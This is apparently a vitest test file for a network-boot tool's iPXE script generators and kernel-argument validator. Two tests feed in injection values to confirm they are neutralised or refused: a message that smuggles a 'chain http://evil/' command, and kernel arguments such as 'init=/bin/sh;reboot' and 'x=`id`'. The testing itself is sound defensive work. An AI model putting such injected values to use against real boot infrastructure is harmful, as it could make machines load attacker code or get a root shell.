import { describe, expect, it } from 'vitest';
import { localDiskScript, memoryScript, menuScript, nothingScript, powerOffScript } from './ipxe-script.js';
import { memoryArguments, type MemoryBoot } from './kernel-arguments.js';

const boot: MemoryBoot = {
  bootUrl: 'http://10.99.0.1:7480',
  agentUrl: 'https://10.99.0.1:7481',
  caSha256: 'c0ffee',
  nonce: 'N0nce-_',
  purpose: 'commission',
  mac: '52:54:00:aa:bb:01',
  extraArguments: ['console=ttyS0'],
};

describe('boot scripts for iPXE', () => {
  it('start the memory environment', () => {
    expect(memoryScript(boot, 'node-1 is commissioning', 'http://10.99.0.1:7480/boot/ipxe/52:54:00:aa:bb:01')).toBe(
      `#!ipxe
echo muster: node-1 is commissioning
kernel http://10.99.0.1:7480/boot/n/N0nce-_/vmlinuz initrd=initrd muster.boot=http://10.99.0.1:7480 muster.agent=https://10.99.0.1:7481 muster.ca=c0ffee muster.nonce=N0nce-_ muster.purpose=commission BOOTIF=01-52-54-00-aa-bb-01 console=ttyS0 || goto failed
initrd --name initrd http://10.99.0.1:7480/boot/n/N0nce-_/initrd || goto failed
boot || goto failed
:failed
imgfree ||
echo muster: that did not work, trying again in 10 seconds
sleep 10
chain --replace http://10.99.0.1:7480/boot/ipxe/52:54:00:aa:bb:01 || goto failed
`,
    );
  });

  it('go on with the local disk', () => {
    expect(localDiskScript('http://10.99.0.1:7480', 'node-1 is deployed')).toBe(`#!ipxe
echo muster: node-1 is deployed: starting from the local disk
iseq \${platform} efi && chain http://10.99.0.1:7480/boot/files/local-boot.efi || exit
`);
  });

  it('switch off', () => {
    expect(powerOffScript('node-1 is ready')).toBe(`#!ipxe
echo muster: node-1 is ready: nothing to do, switching off
poweroff ||
echo muster: this firmware cannot switch the machine off, so it waits
:wait
sleep 60 ||
goto wait
`);
  });

  it('let the firmware go on', () => {
    expect(nothingScript('unknown machine')).toBe(`#!ipxe
echo muster: unknown machine: nothing to boot here
exit
`);
  });

  it('show a menu that decides by itself after a while', () => {
    const choices = [
      { key: 'local', label: 'Start from the local disk' },
      { key: 'rescue', label: 'Rescue: a shell in memory' },
      { key: 'image:debian@12', label: 'Install debian 12' },
    ];
    const scriptUrl = 'http://10.99.0.1:7480/boot/ipxe/52:54:00:aa:bb:01?arch=7';
    expect(menuScript(choices, { title: 'node-1', timeoutSeconds: 30, scriptUrl })).toBe(`#!ipxe
menu muster: node-1
item local Start from the local disk
item rescue Rescue: a shell in memory
item image:debian@12 Install debian 12
choose --timeout 30000 --default local chosen || set chosen local
chain --replace http://10.99.0.1:7480/boot/ipxe/52:54:00:aa:bb:01?arch=7&choice=\${chosen:uristring}
`);
  });

  it('never hold what an operator (or a machine) wrote as syntax', () => {
    const evil = 'x\nchain http://evil/ && ${net0/mac} || goto "a"';
    expect(powerOffScript(evil).split('\n')).toHaveLength(powerOffScript('x').split('\n').length);
    expect(powerOffScript(evil)).not.toMatch(/[$&"]/);
  });
});

describe('kernel arguments', () => {
  it.each(['a b', 'x="y"', 'init=/bin/sh;reboot', '${net0/ip}', 'a\nboot', '-x', 'x=`id`', 'a||b', '', 'é=1'])(
    'are refused when they are not of the allowed form: %j',
    (argument) => {
      expect(() => memoryArguments({ ...boot, extraArguments: [argument] })).toThrow(/^cannot boot with/);
    },
  );

  it.each(['quiet', 'console=ttyS0,115200n8', 'ip=dhcp', 'modprobe.blacklist=nouveau', 'root=/dev/vda1'])(
    'are taken: %s',
    (argument) => {
      expect(memoryArguments({ ...boot, extraArguments: [argument] })).toContain(argument);
    },
  );
});
